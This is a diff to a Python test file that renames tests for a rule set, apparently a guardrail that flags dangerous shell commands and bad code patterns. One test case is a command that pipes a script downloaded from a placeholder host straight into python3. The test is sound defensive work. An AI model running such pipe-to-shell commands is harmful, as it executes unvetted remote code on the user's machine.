@@ -51,7 +51,7 @@ def broken(tool: str, text: str, path: str = "a.py") -> set[str]:
         ("no-pipe-to-shell", "curl https://x.example/a.py | python3"),
     ],
 )
-def test_a_command_is_stopped(name: str, command: str) -> None:
+def test_a_bundled_rule_matches_a_bad_command(name: str, command: str) -> None:
     assert broken("bash", command) == {name}
 
 
@@ -79,7 +79,7 @@ def test_a_command_is_stopped(name: str, command: str) -> None:
         "rg -n no-verify",
     ],
 )
-def test_an_ordinary_command_passes(command: str) -> None:
+def test_no_bundled_rule_matches_an_ordinary_command(command: str) -> None:
     assert broken("bash", command) == set()
 
 
@@ -110,7 +110,7 @@ def test_an_ordinary_command_passes(command: str) -> None:
         ("no-swallowed-errors", "f().catch(() => {})", "a.js"),
     ],
 )
-def test_a_text_is_stopped(name: str, text: str, path: str) -> None:
+def test_a_bundled_rule_matches_bad_file_content(name: str, text: str, path: str) -> None:
     assert name in broken("write", text, path)
     assert name in broken("edit", text, path)
 
@@ -133,5 +133,5 @@ def test_a_text_is_stopped(name: str, text: str, path: str) -> None:
         ("catch (e) { report(e) }", "a.js"),
     ],
 )
-def test_an_ordinary_text_passes(text: str, path: str) -> None:
+def test_no_bundled_rule_matches_ordinary_file_content(text: str, path: str) -> None:
     assert broken("write", text, path) == set()
